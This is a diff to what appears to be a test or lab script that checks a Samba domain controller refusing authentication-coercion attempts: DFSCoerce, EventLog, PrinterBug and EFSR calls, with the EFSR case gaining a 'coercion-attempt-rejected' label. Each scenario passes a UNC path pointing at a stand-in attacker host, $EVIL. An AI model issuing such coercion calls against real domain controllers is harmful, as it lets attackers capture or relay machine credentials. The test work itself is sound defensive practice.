@@ -408,7 +408,7 @@ refused() { # name notes label... -- command
 scenario_refused_dfsnm() { refused refused_dfsnm "The domain controller answers NetrDfsRemoveStdRoot with a fault: an attempt, readable, without a callback." coercion:dfsnm -- call "ncacn_np:$DC[\\pipe\\netdfs]" dfsnm-13 "$EVIL"; }
 scenario_refused_even() { refused refused_even "The domain controller answers ElfrOpenBELW with a fault." coercion:even -- call "ncacn_np:$DC[\\pipe\\eventlog]" even-9 "\\??\\UNC\\$EVIL\\share\\file.txt"; }
 scenario_refused_rprn() { refused refused_rprn "PrinterBug against Samba's own spooler on the domain controller: it opens no printer of another host, and the notification is refused." coercion:rprn -- call "ncacn_np:$DC[\\pipe\\spoolss]" rprn-65 "\\\\$EVIL"; }
-scenario_refused_bind() { refused refused_bind "The domain controller does not know EFSR: the bind is rejected and no call is ever made." -- call "ncacn_np:$DC[\\pipe\\lsarpc]" efsr-0 "$FILE"; }
+scenario_refused_bind() { refused refused_bind "The domain controller does not know EFSR: the bind is rejected and no call is ever made." coercion-attempt-rejected -- call "ncacn_np:$DC[\\pipe\\lsarpc]" efsr-0 "$FILE"; }
 
 # A domain controller as the victim: stand-ins beside the real one. What it does is its own logon
 # at a workstation that never was its server, which is alarming for that alone.
